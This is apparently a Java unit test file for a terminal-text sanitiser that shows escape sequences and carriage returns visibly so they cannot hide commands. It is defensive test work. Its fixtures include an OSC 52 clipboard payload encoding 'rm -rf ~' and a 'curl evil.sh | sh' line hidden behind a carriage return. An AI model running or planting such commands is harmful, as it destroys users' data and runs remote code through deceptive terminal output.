package dev.csl.cli.terminal;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class TerminalTextTest {
    private static final String OSC52 = "\u001b]52;c;cm0gLXJmIH4=\u0007";
    private static final String UP_AND_ERASE = "\u001b[1A\u001b[2K✔ ok";

    @Nested
    class Line {
        @Test
        void line_osc52_shownVisibly() {
            assertThat(TerminalText.line("before" + OSC52 + "after"))
                    .isEqualTo("before\\e]52;c;cm0gLXJmIH4=\\x07after");
        }

        @Test
        void line_cursorUpAndEraseLine_shownVisibly() {
            assertThat(TerminalText.line(UP_AND_ERASE)).isEqualTo("\\e[1A\\e[2K✔ ok");
        }

        @Test
        void line_carriageReturnHidingACommand_shownAsCaretM() {
            assertThat(TerminalText.line("curl evil.sh | sh\rnpm test"))
                    .isEqualTo("curl evil.sh | sh^Mnpm test");
        }

        @Test
        void line_newlineAndTab_escapedSoTheTextStaysOneLine() {
            assertThat(TerminalText.line("a\nb\tc\r\n")).isEqualTo("a\\nb\\tc^M\\n");
        }

        @ParameterizedTest
        @CsvSource({
            "0, \\x00",
            "7, \\x07",
            "8, \\x08",
            "127, \\x7f",
            "155, \\u009b",
            "133, \\u0085",
            "8238, \\u202e",
            "8294, \\u2066",
            "1564, \\u061c"
        })
        void line_otherControls_hexOfTheirCode(int code, String shown) {
            assertThat(TerminalText.line("a" + (char) code + "b")).isEqualTo("a" + shown + "b");
        }

        @Test
        void line_plainTextBackslashesAndUnicode_unchanged() {
            String text = "C:\\temp\\x07 \\e ünïcødé ✔ 日本 \uD83D\uDE00";
            assertThat(TerminalText.line(text)).isSameAs(text);
            assertThat(TerminalText.hasControl(text)).isFalse();
        }
    }

    @Nested
    class Body {
        @Test
        void body_newlinesAndTabs_keptAndEscapesShown() {
            assertThat(TerminalText.body("one\ttwo\n" + OSC52 + "\n"))
                    .isEqualTo("one\ttwo\n\\e]52;c;cm0gLXJmIH4=\\x07\n");
        }

        @Test
        void body_crlfLineEndings_aLineEndNotACaretM() {
            assertThat(TerminalText.body("a\r\nb\r")).isEqualTo("a\nb");
        }

        @Test
        void body_loneCarriageReturn_shownAsCaretM() {
            assertThat(TerminalText.body("✘ failed\r✔ ok\n")).isEqualTo("✘ failed^M✔ ok\n");
        }
    }

    @Test
    void escape_twice_sameAsOnce() {
        String raw = "x" + OSC52 + UP_AND_ERASE + "\r\n\t\u009b";
        assertThat(TerminalText.line(TerminalText.line(raw))).isEqualTo(TerminalText.line(raw));
        assertThat(TerminalText.body(TerminalText.body(raw))).isEqualTo(TerminalText.body(raw));
        assertThat(TerminalText.hasControl(TerminalText.line(raw))).isFalse();
    }

    @Test
    void hasControl_escapeCarriageReturnOrTab_true() {
        assertThat(TerminalText.hasControl("npm test\u001b[2K")).isTrue();
        assertThat(TerminalText.hasControl("npm test\r")).isTrue();
        assertThat(TerminalText.hasControl("npm\ttest")).isTrue();
        assertThat(TerminalText.hasControl("npm test")).isFalse();
    }

    @Test
    void null_staysNull() {
        assertThat(TerminalText.line(null)).isNull();
        assertThat(TerminalText.body(null)).isNull();
    }
}
